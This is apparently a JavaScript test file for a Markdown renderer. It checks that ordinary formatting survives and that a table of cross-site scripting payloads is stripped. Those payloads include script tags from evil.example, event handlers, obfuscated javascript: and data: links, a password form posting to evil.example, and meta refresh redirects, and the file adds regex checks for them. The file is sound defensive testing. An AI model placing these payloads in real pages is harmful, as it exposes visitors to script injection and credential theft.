import { renderMarkdown } from "@/lib/content/markdown";

describe("renderMarkdown", () => {
  it("renders ordinary Markdown", () => {
    const html = renderMarkdown("## Title\n\nSome **bold** and a [link](https://example.com).");
    expect(html).toContain("<h2>Title</h2>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain('href="https://example.com"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it("keeps the About page's figures list", () => {
    const html = renderMarkdown("<dl>\n<div><dt>Cities</dt><dd>50+</dd></div>\n</dl>");
    expect(html).toContain("<dt>Cities</dt><dd>50+</dd>");
  });

  it.each([
    ["script tag", "<script>alert(1)</script>"],
    ["script in a paragraph", "Hello <script src=https://evil.example/x.js></script>"],
    ["event handler", '<img src="https://x.example/a.png" onerror="alert(1)">'],
    ["event handler on a link", '<a href="https://x.example" onclick="alert(1)">x</a>'],
    ["javascript link", "[click](javascript:alert(1))"],
    ["javascript link with entities", '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ["upper-case javascript", "[x](JaVaScRiPt:alert(1))"],
    ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
    ["iframe", '<iframe src="https://evil.example"></iframe>'],
    ["style tag", "<style>body{display:none}</style>"],
    ["style attribute", '<p style="background:url(javascript:alert(1))">x</p>'],
    ["svg", "<svg onload=alert(1)><circle /></svg>"],
    ["form", '<form action="https://evil.example"><input name="password"></form>'],
    ["object", '<object data="https://evil.example/x.swf"></object>'],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["vbscript", "[x](vbscript:msgbox(1))"],
    ["protocol-relative image", "![x](//evil.example/track.png)"],
  ])("removes the danger in %s", (_name, markdown) => {
    const html = renderMarkdown(markdown).toLowerCase();
    expect(html).not.toMatch(/<script|<iframe|<style|<svg|<form|<input|<object|<meta/);
    expect(html).not.toMatch(/\son[a-z]+=/);
    expect(html).not.toMatch(/javascript:|vbscript:|data:|style=/);
    expect(html).not.toContain('src="//');
  });
});
